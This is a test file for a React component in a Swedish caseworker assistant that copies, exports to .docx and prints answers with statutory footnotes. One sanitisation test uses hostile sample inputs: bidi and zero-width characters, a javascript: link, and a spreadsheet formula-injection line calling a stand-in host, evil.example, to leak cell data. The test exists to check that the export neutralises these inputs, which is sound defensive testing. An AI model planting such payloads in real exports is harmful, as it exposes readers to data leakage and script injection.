import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import mammoth from 'mammoth';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { AssistantChatMessage } from '@/features/answer-blocks/answer-types';
import { getToasts } from '@/lib/toast';
import { answerFixture, jsonResponse } from '../chat/testing/chat-fixtures';
import { installFetchMock } from '../chat/testing/fetch-mock';
import { CaseFileActions } from './case-file-actions';

const fetchMock = installFetchMock();

const fixture = answerFixture({
  answer: '**Kort svar**\nBidrag lämnas för anpassning (4 § lag (2018:222) om bostadsanpassningsbidrag).',
});

const message: AssistantChatMessage = {
  id: 'a1',
  type: 'assistant',
  content: fixture.answer,
  timestamp: 0,
  userQuestion: 'Vem kan få bostadsanpassningsbidrag?',
  sources: fixture.sources,
  isDetailed: false,
  validation: fixture.validation,
  abstained: false,
};

const VERSION = {
  version: '3.2.1',
  model: 'extractive',
  modelDate: null,
  embeddingModel: 'e5',
  systemUpdate: '2026-11-01',
};

const renderActions = (shown: AssistantChatMessage = message) => {
  const user = userEvent.setup();
  render(
    <QueryClientProvider client={new QueryClient({ defaultOptions: { queries: { retry: false } } })}>
      <CaseFileActions message={shown} earlier={[]} />
    </QueryClientProvider>,
  );
  return user;
};

describe('CaseFileActions', () => {
  beforeEach(() => {
    fetchMock.mockImplementation(async () => jsonResponse(200, VERSION));
  });
  afterEach(() => {
    vi.restoreAllMocks();
  });

  it('copies the answer with numbered footnotes and the version, and confirms it', async () => {
    const user = renderActions();
    await waitFor(() => expect(fetchMock).toHaveBeenCalled());
    await user.click(screen.getByRole('button', { name: 'Kopiera med källor' }));
    const text = await navigator.clipboard.readText();
    expect(text).toContain('Fråga: Vem kan få bostadsanpassningsbidrag?');
    expect(text).toContain('Bidrag lämnas för anpassning [1].');
    expect(text).toContain(
      '[1] 4 §, Svensk författningssamling (SFS 2018:222). Lydelse t.o.m. SFS 2025:453. https://www.riksdagen.se/sv/dokument-och-lagar/dokument/svensk-forfattningssamling/sfs-2018-222. Bekräftad mot källtexten.',
    );
    expect(text).toContain('Ej bekräftat: ”Första punkten.”');
    expect(text).toMatch(/Framtaget med Handläggarstöd 3\.2\.1 den \d{4}-\d{2}-\d{2}\./);
    expect(getToasts().at(-1)).toMatchObject({ title: 'Svaret är kopierat med källor', variant: 'success' });
  });

  it('says so when the clipboard refuses the text', async () => {
    const user = renderActions();
    vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new Error('denied'));
    // The fallback's copy command fails too.
    const execCommand = vi.fn(() => false);
    Object.assign(document, { execCommand });
    await user.click(screen.getByRole('button', { name: 'Kopiera med källor' }));
    await waitFor(() =>
      expect(getToasts().at(-1)).toMatchObject({
        title: 'Det gick inte att kopiera',
        variant: 'destructive',
      }),
    );
    expect(execCommand).toHaveBeenCalledWith('copy');
  });

  it('downloads a .docx with the question, the answer, the footnotes and the marked statements', async () => {
    const files: Blob[] = [];
    const createObjectURL = vi.fn((blob: Blob) => {
      files.push(blob);
      return 'blob:case-file';
    });
    // jsdom has no object URLs: the stub keeps the file the page hands to the browser.
    Object.assign(URL, { createObjectURL, revokeObjectURL: vi.fn() });
    const names: string[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      names.push(this.download);
    });
    const user = renderActions();
    await user.click(screen.getByRole('button', { name: 'Exportera (.docx)' }));
    await waitFor(() => expect(files).toHaveLength(1), { timeout: 15_000 });
    expect(names[0]).toMatch(/^handlaggarstod-svar-\d{4}-\d{2}-\d{2}\.docx$/);
    const buffer = Buffer.from(await (files[0] as Blob).arrayBuffer());
    const { value } = await mammoth.extractRawText({ buffer });
    expect(value).toContain('Vem kan få bostadsanpassningsbidrag?');
    expect(value).toContain('Bidrag lämnas för anpassning [1].');
    expect(value).toContain(
      '[1] 4 §, Svensk författningssamling (SFS 2018:222). Lydelse t.o.m. SFS 2025:453.',
    );
    expect(value).toContain('Ej bekräftat: ”Första punkten.”');
    // One heading, then the figures: the line does not say 'Validering' again.
    expect(value).toContain('Validering\n\n1 av 2 påståenden stöds av källorna.');
    expect(value).not.toContain('Validering:');
    await waitFor(() => expect(getToasts().at(-1)).toMatchObject({ title: 'Dokumentet är nedladdat' }));
  }, 20_000);

  it('gives the .docx the same cleaning as the copy: no markup, bidi or zero-width characters, no formula lines', async () => {
    const files: Blob[] = [];
    Object.assign(URL, {
      createObjectURL: vi.fn((blob: Blob) => {
        files.push(blob);
        return 'blob:case-file';
      }),
      revokeObjectURL: vi.fn(),
    });
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    const user = renderActions({
      ...message,
      userQuestion: 'Gäller \u202Edet\u202C här?',
      content: [
        '**Kort svar**',
        'Ja \u2067om\u2069 upplåtelsen är lång\u200Bvarig (4 § lag (2018:222) om bostadsanpassningsbidrag).',
        '<b>Fet</b> text och [en länk](javascript:alert(1)) här.',
        '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
        '@SUM(1;2)',
      ].join('\n'),
    });
    await user.click(screen.getByRole('button', { name: 'Exportera (.docx)' }));
    await waitFor(() => expect(files).toHaveLength(1), { timeout: 15_000 });
    const { value } = await mammoth.extractRawText({
      buffer: Buffer.from(await (files[0] as Blob).arrayBuffer()),
    });
    expect(value).not.toMatch(/[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/);
    expect(value).toContain('Gäller det här?');
    expect(value).toContain('Ja om upplåtelsen är långvarig [1].');
    expect(value).toContain('Fet text och en länk här.');
    expect(value).not.toMatch(/javascript|<b>/);
    expect(value).toContain('\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")');
    expect(value).toContain("'@SUM(1;2)");
  }, 20_000);

  it('opens a print view with the question, the answer and the footnotes, and prints it', async () => {
    const print = vi.fn();
    vi.stubGlobal('print', print);
    const user = renderActions();
    await user.click(screen.getByRole('button', { name: 'Utskriftsvy' }));
    const view = screen.getByRole('dialog', { name: 'Svar med källor' });
    expect(within(view).getByText('Vem kan få bostadsanpassningsbidrag?')).toBeInTheDocument();
    expect(within(view).getByText('Bidrag lämnas för anpassning [1].')).toBeInTheDocument();
    expect(within(view).getByText(/^\[1\] 4 §, Svensk författningssamling/)).toBeInTheDocument();
    expect(within(view).getByRole('heading', { name: 'Validering' })).toBeInTheDocument();
    expect(within(view).getByText('1 av 2 påståenden stöds av källorna.')).toBeInTheDocument();
    expect(within(view).queryByText(/Validering:/)).not.toBeInTheDocument();
    await user.click(within(view).getByRole('button', { name: 'Skriv ut' }));
    expect(print).toHaveBeenCalledOnce();
    await user.click(within(view).getByRole('button', { name: 'Stäng utskriftsvyn' }));
    expect(screen.queryByRole('dialog')).not.toBeInTheDocument();
  });
});
